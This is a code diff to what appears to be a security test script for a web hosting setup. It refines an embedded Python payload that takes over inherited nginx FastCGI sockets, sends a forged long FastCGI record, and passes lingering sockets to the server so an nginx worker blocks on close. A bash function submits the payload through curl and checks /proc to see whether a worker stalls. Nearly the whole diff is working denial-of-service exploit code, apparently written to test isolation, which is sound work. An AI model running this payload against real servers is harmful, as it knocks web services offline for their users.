@@ -59,7 +59,7 @@ def web_server(fd): # the worker's end of the request
     s.detach()
 web = [s for s in map(web_server, range(3, 64)) if s]
 lingering, kept = [], []
-for _ in range(4):
+for _ in web * 5:
     silent = socket.create_server(("127.0.0.1", 0))
     s = socket.create_connection(silent.getsockname())
     kept += [silent, silent.accept()[0]]
@@ -71,33 +71,38 @@ for _ in range(4):
         pass
     s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 20))
     s.setblocking(True)
-    lingering.append(s)
+    lingering.append(s.detach())
 if os.fork() == 0: # who reads nothing stays
-    for s in lingering:
-        s.close()
-    time.sleep(18)
+    for fd in lingering:
+        os.close(fd)
+    time.sleep(10)
     os._exit(0)
-for s in lingering: # whoever closes it last waits: of so many on their way the web server
-    for w in web * 50:
-        try:
-            socket.send_fds(w, [b"x" * 8], [s.fileno()])
-        except OSError:
-            pass
-    os.close(s.detach())
+for w in web: # a record of FastCGI that goes on for long, so that nginx reads on
+    try:
+        w.send(struct.pack(">BBHHBB", 1, 6, 1, 9000, 0, 0) + b"Content-Type: text/plain\r\n\r\n")
+    except OSError:
+        pass
+for w, fd in zip(web * 5, lingering): # whoever closes it last waits: the web server, which first has to wake up
+    time.sleep(0.05)
+    try:
+        socket.send_fds(w, [b"x"], [fd])
+    except OSError:
+        pass
+    os.close(fd)
 P
 X
 )
 nginx_after() { # page that is asked first: does a worker of nginx wait in a close then, and serve nobody?
-	local i still=0 asked
-	timeout 12 curl -s --data-urlencode "run=$lingers" "http://$1.example/" >/dev/null & asked=$!
-	for i in $(seq 30); do
-		for i in $(pgrep -P "$(cat /run/nginx.pid)"); do
-			[ "$(cat /proc/$i/wchan)" != wait_woken ] || still=$((still + 1))
+	local worker still=0 asked end=$((SECONDS + 10))
+	timeout 20 curl -s --data-urlencode "run=$lingers" "http://$1.example/" >/dev/null & asked=$!
+	while [ $SECONDS -lt $end ] && [ $still -lt 15 ]; do
+		for worker in $(pgrep -P "$(cat /run/nginx.pid)"); do
+			[ "$(cat /proc/$worker/wchan)" != wait_woken ] || still=$((still + 1))
 		done
 		sleep 0.1
 	done
+	[ $still -ge 15 ] && echo "a worker stands still" || echo "goes on"
 	wait $asked
-	[ $still -gt 15 ] && echo "a worker stands still" || echo "goes on"
 }
 
 attacks() {
